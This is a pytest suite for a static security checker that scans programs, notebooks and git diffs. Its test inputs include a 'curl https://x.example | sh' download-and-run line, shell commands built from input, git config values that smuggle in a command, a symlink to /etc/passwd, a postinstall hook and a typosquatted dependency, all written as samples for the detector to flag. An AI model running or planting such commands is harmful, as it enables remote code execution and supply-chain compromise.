"""coffer check, as its user runs it: programs, notebooks, changes; its output and exit codes."""

import json
import os
import subprocess

import pytest
from support import IS_ROOT, ROOT, SETUP_FAILED, make_repository

NOTHING, FINDINGS, SYNTAX = 0, 1, 2


@pytest.fixture
def check(run_coffer, gate_environment, workspace):
    def run(*args, **keywords):
        keywords.setdefault("cwd", workspace)
        return run_coffer("check", *args, env=gate_environment, **keywords)

    return run


@pytest.fixture
def put(workspace):
    def write(name, text):
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return name

    return write


def git(workspace, *args):
    subprocess.run(["git", *args], cwd=workspace, check=True, capture_output=True)


def rules(result):
    return [f["rule"] for file in json.loads(result.out)["files"] for f in file["findings"]]


# Programs.


def test_a_program_without_findings_is_silent(check, put):
    result = check(put("a.py", "print('hello')\n"))
    assert (result.code, result.out, result.err) == (NOTHING, "", "")


def test_a_finding_is_told_with_its_place_and_reason(check, put):
    result = check(put("a.py", "import os\nos.system('ls ' + name)\n"))
    assert result.code == FINDINGS
    assert result.out.startswith("a.py:2:1: high: runs in a shell a command line put together")
    assert "(py-shell-built)\n    os.system('ls ' + name)\n" in result.out


@pytest.mark.parametrize(
    "threshold,code",
    [("info", FINDINGS), ("low", FINDINGS), ("medium", NOTHING), ("critical", NOTHING)],
)
def test_the_threshold_decides_the_exit_code(check, put, threshold, code):
    name = put("a.py", "import os\nos.system('ls')\n")
    assert check("--fail-on", threshold, name).code == code


def test_syntax_errors_outrank_findings(check, put):
    result = check(put("a.py", "x = (1\n"), put("b.js", "eval(x)\n"))
    assert result.code == SYNTAX
    assert "a.py:1:5: syntax error" in result.out
    assert "b.js:1:1: medium" in result.out


def test_standard_input_wants_a_language(check):
    assert check("-", stdin="eval(x)").code == SETUP_FAILED
    result = check("--language", "javascript", "-", stdin="eval(x)")
    assert result.code == FINDINGS
    assert result.out.startswith("-:1:1: ")
    assert check("-", stdin="#!/usr/bin/env python3\nprint(1)\n").code == NOTHING


def test_a_notebook_is_told_by_its_cells(check, put):
    cells = [
        {"cell_type": "markdown", "source": "# title"},
        {"cell_type": "code", "source": ["import os\n", "cmd = input()"]},
        {"cell_type": "code", "source": ["os.system(cmd)"]},
    ]
    result = check(put("a.ipynb", json.dumps({"cells": cells})))
    assert result.code == FINDINGS
    assert "a.ipynb:1:1: medium: cell 3: " in result.out


def test_a_script_is_judged_by_its_commands(check, put):
    result = check(put("a.sh", "#!/bin/sh\nls\ncurl https://x.example | sh\n"))
    assert result.code == FINDINGS
    assert result.out.startswith("a.sh:3:")
    assert "(sh-dangerous)" in result.out
    assert check(put("tool", "#!/bin/sh\nif true; then\n")).code == SYNTAX


def test_json_names_every_file(check, put):
    result = check("--json", put("a.py", "eval(x)\n"), put("b.py", "x = (\n"))
    first, second = json.loads(result.out)["files"]
    assert first["language"] == "python" and first["syntax_error"] is None
    assert first["findings"][0]["rule"] == "py-evaluate"
    assert (first["findings"][0]["line"], first["findings"][0]["column"]) == (1, 1)
    assert second["syntax_error"].startswith("1:")


def test_sarif_has_what_its_schema_requires(check, put):
    names = [put("a b.py", "eval(x)\nx = (\n"), put("c:d.js", "// é\neval(atob(y))\n")]
    log = json.loads(check("--sarif", *names).out)
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    (run,) = log["runs"]
    driver = run["tool"]["driver"]
    assert driver["name"]
    known = {rule["id"]: rule for rule in driver["rules"]}
    assert len(known) == len(driver["rules"])
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"]
        assert rule["defaultConfiguration"]["level"] in ("none", "note", "warning", "error")
    assert {r["ruleId"] for r in run["results"]} >= {"syntax-error", "js-evaluate-decoded"}
    for found in run["results"]:
        assert found["ruleId"] in known
        assert found["message"]["text"]
        assert found["level"] in ("none", "note", "warning", "error")
        place = found["locations"][0]["physicalLocation"]
        assert place["artifactLocation"]["uri"] in ("a%20b.py", "./c%3Ad.js")
        assert place["region"]["startLine"] >= 1 and place["region"]["startColumn"] >= 1
    assert run["columnKind"] == "unicodeCodePoints"
    assert [i["executionSuccessful"] for i in run["invocations"]] == [True]


def test_names_and_source_cannot_move_the_terminal(check, put):
    result = check(put("a\x1b]0;x\x07.py", "eval('\x1b[2J' + x)\n"))
    assert result.code == FINDINGS
    assert "\x1b" not in result.out and "\x07" not in result.out


def test_what_cannot_be_read_is_an_error(check, put, workspace):
    assert check("absent.py").code == SETUP_FAILED
    assert check(".").code == SETUP_FAILED
    assert check(put("a.c", "int x;\n")).code == SETUP_FAILED
    large = put("large.py", "x = 1\n" * 200000)
    result = check(large)
    assert result.code == SETUP_FAILED and "larger than 1 MiB" in result.err
    os.mkfifo(workspace / "fifo.py")
    assert check("fifo.py").code == SETUP_FAILED


def test_usage_names_the_nearest_option(check):
    result = check("--sarf", "a.py")
    assert result.code == SETUP_FAILED and "--sarif" in result.err
    assert check().code == SETUP_FAILED
    assert check("--fail-on", "bad", "a.py").code == SETUP_FAILED
    assert check("--help").code == 0


def test_a_name_may_start_with_a_dash(check, put):
    assert check("--", put("-a.py", "eval(x)\n")).code == FINDINGS


# Changes.


def test_what_has_changed_is_judged_and_what_was_there_is_not(check, put, workspace):
    put("old.py", "eval(x)\n")
    put("run.py", "import os\n\n\ndef f(x):\n    return x\n")
    git(workspace, "add", "-A")
    git(workspace, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x")
    put("run.py", "import os\n\n\ndef f(x):\n    os.system(f'ls {x}')\n    return x\n")
    put("old.py", "eval(x)\ny = 1\n")
    result = check("--diff", "--json")
    assert result.code == FINDINGS, result.describe()
    assert rules(result) == ["py-shell-built"]
    found = json.loads(result.out)["files"][0]["findings"][0]
    assert (found["file"], found["line"]) == ("run.py", 5)


def test_a_repository_cannot_make_its_diff_run_anything(check, put, workspace):
    put("a.txt", "a\n")
    put(".gitattributes", "*.txt diff=evil\n")
    git(workspace, "add", "-A")
    git(workspace, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x")
    marker = workspace / "marker"
    for key in ("diff.external", "diff.evil.textconv", "diff.evil.command", "core.fsmonitor"):
        git(workspace, "config", key, f"touch {marker}; cat")
    put("a.txt", "b\n")
    result = check("--diff")
    assert result.code == NOTHING, result.describe()
    assert not marker.exists()


def test_no_repository_is_said(check, home_directory):
    empty = home_directory / "empty"
    empty.mkdir()
    result = check("--diff", cwd=empty)
    assert result.code == SETUP_FAILED
    assert "git diff HEAD failed" in result.err


def test_a_diff_may_come_from_anywhere(check, put):
    diff = "--- a/.env\n+++ b/.env\n@@ -0,0 +1 @@\n+DB_PASSWORD=kd93kf" + "X02nd\n"
    for result in (check("--diff", put("x.diff", diff)), check("--diff", "-", stdin=diff)):
        assert result.code == FINDINGS
        assert ".env:1:13: high: " in result.out
        assert "kd93kfX" not in result.out


def test_a_real_change_with_everything_in_it(check, put, workspace):
    put("package.json", '{\n  "dependencies": {\n    "lodash": "^4.17.20"\n  }\n}\n')
    git(workspace, "add", "-A")
    git(workspace, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x")
    put(
        "package.json",
        '{\n  "scripts": {\n    "postinstall": "node x.js"\n  },\n  "dependencies": {\n'
        '    "lodahs": "^4.17.20",\n    "lodash": "^4.17.21"\n  }\n}\n',
    )
    put("häng en/x.go", "x := tls.Config{InsecureSkipVerify: true}\n")
    put(".github/workflows/ci.yml", "on: push\n")
    put("run.sh", "curl https://x.example | sh\n")
    (workspace / "run.sh").chmod(0o755)
    (workspace / "link").symlink_to("/etc/passwd")
    (workspace / "blob.bin").write_bytes(bytes(range(256)))
    git(workspace, "add", "-f", "-A")
    diff = subprocess.run(
        ["git", "diff", "HEAD"], cwd=workspace, check=True, capture_output=True
    ).stdout
    result = check("--diff", "--json", "-", stdin=diff)
    assert sorted(rules(result)) == [
        "diff-binary-program",
        "diff-ci",
        "diff-dependency",
        "diff-dependency-lookalike",
        "diff-executable",
        "diff-install-script",
        "diff-shell-download",
        "diff-symlink",
        "diff-symlink-outside",
        "diff-tls-unchecked",
    ]
    files = {f["rule"]: f["file"] for f in json.loads(result.out)["files"][0]["findings"]}
    assert files["diff-tls-unchecked"] == "häng en/x.go"
    # The same by way of git in a box.
    assert rules(check("--diff", "--json")) == rules(result)


# Rules, and what the docs say of them.


def test_the_documented_rules_are_those_of_the_program(check):
    table = check("--rules").ok().out
    text = (ROOT / "docs" / "CHECK.md").read_text()
    assert table in text, "docs/CHECK.md: put the output of `coffer check --rules` there"


def test_rules_as_json(check):
    listed = json.loads(check("--rules", "--json").ok().out)
    assert len({rule["id"] for rule in listed}) == len(listed) > 80
    assert {rule["severity"] for rule in listed} == {"info", "low", "medium", "high", "critical"}


# Ordinary code.


def test_the_standard_library_is_seldom_grave(check):
    """What every machine with Python has, as an example of code that means no harm."""
    library = os.path.dirname(os.__file__)
    names = sorted(n for n in os.listdir(library) if n.endswith(".py"))
    names = [n for n in names if os.path.getsize(os.path.join(library, n)) < 2**20]
    result = check("--json", *names, cwd=library)
    grave = [
        f"{f['file']}:{f['line']} {f['rule']}"
        for file in json.loads(result.out)["files"]
        for f in file["findings"]
        if f["severity"] in ("high", "critical")
    ]
    syntax = [f["file"] for f in json.loads(result.out)["files"] if f["syntax_error"]]
    assert len(names) > 100
    assert len(grave) <= len(names) / 20, grave
    assert not syntax


def test_root_and_user_get_the_same(check, put):
    """Nothing of the analysis depends on who runs it; the box of --diff is either tier's."""
    result = check(put("a.py", "import socket\n"), "--fail-on", "info")
    assert result.code == FINDINGS
    assert IS_ROOT == (os.getuid() == 0)


def test_a_repository_of_the_users_own(check, home_directory):
    fresh = make_repository(home_directory / "fresh")
    assert check("--diff", cwd=fresh).code == NOTHING
